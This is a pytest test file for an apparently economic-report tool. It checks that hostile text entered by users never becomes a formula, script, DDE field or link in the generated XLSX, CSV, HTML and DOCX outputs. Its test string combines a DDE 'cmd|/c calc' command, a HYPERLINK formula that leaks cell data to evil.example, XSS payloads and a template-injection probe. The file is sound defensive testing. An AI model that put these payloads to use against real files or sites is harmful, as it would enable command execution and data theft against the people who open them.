"""Whatever people type is text in every file that is written: no formula, no markup, no field runs when it is opened."""

from __future__ import annotations

import copy
import csv
import itertools
import re
import sys
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from odd_files import KNOWN, base_book, example_rows

from stepup_econ.intake.annotate import annotate
from stepup_econ.intake.csv_folder import read_csv_folder, write_csv_folder
from stepup_econ.intake.sheets import SHEETS
from stepup_econ.intake.template import write_template
from stepup_econ.intake.workbook import read_workbook
from stepup_econ.problems import Problem

sys.path.insert(0, str(Path(__file__).parents[1] / "report"))
from report_synthetic import synthetic_results

EVIL = "cmd|'/c calc'!A1,HYPERLINK(\"http://evil.example/?\"&A1),<script>alert(1)</script>\"'><img src=x onerror=alert(2)>&{{7*7}}"
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "=-", "﹦", "%0A=")
RUNS = ("=", "+", "-", "@", "\t", "\r")
SHOWN = ("title", "organisation", "contact_role", "source", "note", "words", "sentence", "item", "warnings", "page", "name", "where")
NUMBER = re.compile(r"-?[0-9][0-9.,]*(e[+-]?[0-9]+)?%?")


def hostile(value: Any, starts: itertools.cycle[str], key: str = "") -> Any:
    """Put something hostile before every text of results that a reader is shown."""
    if isinstance(value, dict):
        return {name: hostile(part, starts, name) for name, part in value.items()}
    if isinstance(value, list):
        return [hostile(part, starts, key) for part in value]
    shown = key in SHOWN or key.endswith("label")
    return f"{next(starts)}{EVIL} {value}" if isinstance(value, str) and shown else value


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Results whose every label is hostile, written by every writer of the report; the figures are drawn elsewhere."""
    from stepup_econ.report.book import write_book
    from stepup_econ.report.brief import make_brief
    from stepup_econ.report.brief_docx import write_brief_docx
    from stepup_econ.report.brief_html import write_brief_html
    from stepup_econ.report.csvs import write_csvs
    from stepup_econ.report.tables import publish

    folder = tmp_path_factory.mktemp("hostile")
    published = publish(hostile(copy.deepcopy(synthetic_results(2)), itertools.cycle(STARTS)))
    write_csvs(published, folder / "tables")
    write_book(published, folder / "results.xlsx")
    brief = make_brief(published, {})
    write_brief_html(brief, folder / "brief.html")
    write_brief_docx(brief, folder / "brief.docx")
    return folder


@pytest.fixture(scope="module")
def answers() -> dict[str, Any]:
    """Answers whose every free text is hostile."""
    rows: dict[str, Any] = example_rows()
    starts = itertools.cycle(STARTS[:4])
    for sheet in SHEETS:
        for row in rows[sheet.name]:
            row |= {key: f"{next(starts)}{EVIL}" for key in ("label", "source", "note") if key in row and sheet.name != "Settings"}
    next(row for row in rows["Settings"] if row["id"] == "title")["value"] = f"={EVIL}"
    return rows


def formulas(path: Path) -> list[str]:
    """Return every formula in a workbook: of cells, of limits and of conditional formats."""
    with zipfile.ZipFile(path) as package:
        parts = [package.read(name).decode() for name in package.namelist() if name.endswith(".xml")]
    tags = ("f", "formula", "formula1", "formula2", "definedName")
    return [text for part in parts for tag in tags for text in re.findall(rf"<{tag}(?: [^>]*)?>([^<]*)</{tag}>", part)]


def test_no_text_becomes_a_formula_in_any_workbook(written: Path, answers: dict[str, Any], tmp_path: Path) -> None:
    filled = write_template(tmp_path / "filled.xlsx", answers, KNOWN)
    odd = base_book()
    odd.put("Areas", "deprivation decile", f"={EVIL}")
    source = odd.save(tmp_path / "odd.xlsx")
    _, problems = read_workbook(source, KNOWN)
    marked = annotate(source, tmp_path / "marked.xlsx", [*problems, Problem("WB136", "=1+1!A1", f"={EVIL}", "+1", f"@{EVIL}.")])
    for path in (written / "results.xlsx", filled, marked):
        assert not [text for text in formulas(path) if "evil" in text or "calc" in text], path.name
        texts = [cell.value for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]
        assert any("evil.example" in str(text) for text in texts), path.name
        with zipfile.ZipFile(path) as package:
            assert not [name for name in package.namelist() if "externalLink" in name or "vba" in name.lower()]
            assert "evil" not in "".join(package.read(name).decode() for name in package.namelist() if name.endswith(".rels"))


def test_hostile_answers_are_read_back_to_the_letter(answers: dict[str, Any], tmp_path: Path) -> None:
    book, problems = read_workbook(write_template(tmp_path / "a.xlsx", answers, KNOWN), KNOWN)
    again, more = read_csv_folder(write_csv_folder(tmp_path / "a", answers), KNOWN)
    assert (problems, more) == ((), ())
    assert book is not None
    assert again is not None
    assert book.digest == again.digest
    assert book.tables["Areas"][0]["note"] == answers["Areas"][0]["note"]


def test_no_cell_of_a_csv_file_begins_as_a_formula(written: Path, answers: dict[str, Any], tmp_path: Path) -> None:
    write_csv_folder(tmp_path / "answers", answers)
    files = [*sorted((written / "tables").glob("*.csv")), *sorted((tmp_path / "answers").glob("*.csv"))]
    assert len(files) > 20
    seen = 0
    for file in files:
        with file.open(encoding="utf-8", newline="") as opened:
            cells = [cell for row in csv.reader(opened) for cell in row]
        seen += sum("evil.example" in cell for cell in cells)
        assert not [cell for cell in cells if cell.startswith(RUNS) and not NUMBER.fullmatch(cell)], file.name
    assert seen > 50


class _Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def test_no_text_becomes_markup_in_the_page(written: Path) -> None:
    page = _Tags((written / "brief.html").read_text(encoding="utf-8"))
    assert "<script>alert(1)</script>" in page.words
    assert "{{7*7}}" in page.words
    # Two of our own: the numbers of the slider, which do not run, and one script that the page's policy names by its hash.
    assert [attributes.get("type") for tag, attributes in page.tags if tag == "script"] == ["application/json", None]
    for tag, attributes in page.tags:
        assert tag not in ("iframe", "object", "embed", "form", "base")
        assert not [name for name in attributes if name.startswith("on")]
        assert not str(attributes.get("src") or attributes.get("href") or "").startswith(("x", "http", "javascript"))


def test_no_text_becomes_a_field_or_a_link_in_the_document(written: Path) -> None:
    with zipfile.ZipFile(written / "brief.docx") as package:
        parts = {name: package.read(name) for name in package.namelist()}
    for name, data in parts.items():
        if not name.endswith((".xml", ".rels")):
            continue
        root = ElementTree.fromstring(data)
        fields = [element.text or "" for element in root.iter() if element.tag.endswith(("}instrText", "}fldSimple"))]
        assert not [field for field in fields if "evil" in field or "DDE" in field.upper()], name
        if name.endswith(".rels"):
            assert b"evil" not in data
    assert b"&lt;script&gt;alert(1)" in parts["word/document.xml"]
    assert not [name for name in parts if "vba" in name.lower() or "embeddings" in name]
